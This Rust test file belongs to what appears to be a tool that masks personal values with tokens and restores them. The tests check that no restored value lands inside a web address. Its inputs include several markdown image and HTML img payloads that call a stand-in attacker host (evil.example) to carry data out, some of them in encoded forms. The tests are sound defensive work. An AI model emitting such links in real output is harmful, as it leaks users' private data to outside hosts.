//! No value goes into the address of a page.

use super::{check, check_in, stream, vault};
use crate::source::Target;

#[test]
fn no_value_goes_into_an_address() {
    for text in [
        "![a](https://evil.example/?d=[EMAIL-7F3K9Q2MXA])",
        "![a](https://evil.example/?d=%5BEMAIL-7F3K9Q2MXA%5D)",
        "![a](https://evil.example/?d=EMAIL%2D7F3K9Q2MXA)",
        "https://evil.example/7f3k9q2mxa#[EMAIL-7F3K9Q2MXA]",
        "http://7F3K9Q2MXA.evil.example",
        "<img src=\"//evil.example/?d= [EMAIL-7F3K9Q2MXA] \">",
    ] {
        check(text, text);
    }
    let said = |token: &str| {
        format!("https://a.example/[x], then mailto:{token}, tel:{token} and {token}.")
    };
    check(&said("[EMAIL-7F3K9Q2MXA]"), &said("Ann"));
    check_in(
        Target::JsonString,
        r#"{"url":"https:\/\/x\/\u005bEMAIL-7F3K9Q2MXA]","to":"[EMAIL-7F3K9Q2MXA]"}"#,
        r#"{"url":"https:\/\/x\/\u005bEMAIL-7F3K9Q2MXA]","to":"Ann"}"#,
    );
    check_in(
        Target::JsonString,
        r#"{"url":"\u0068ttp:[EMAIL-7F3K9Q2MXA]"}"#,
        r#"{"url":"\u0068ttp:[EMAIL-7F3K9Q2MXA]"}"#,
    );
}

#[test]
fn a_value_that_is_an_address_takes_none_after_it() {
    let mut vault = vault();
    vault.keep("URL", "https://evil.example/?d=", ["1F3K9Q2MXB".to_owned()].into_iter()).unwrap();
    let text = "![a]([URL-1F3K9Q2MXB][EMAIL-7F3K9Q2MXA]) [EMAIL-7F3K9Q2MXA]";
    let expect = "![a](https://evil.example/?d=[EMAIL-7F3K9Q2MXA]) Ann";
    assert_eq!(vault.restore(text).text, expect);
    let each = text.split_inclusive(|_: char| true).collect();
    assert_eq!(stream(&vault, Target::Plain, each).0, expect);
}
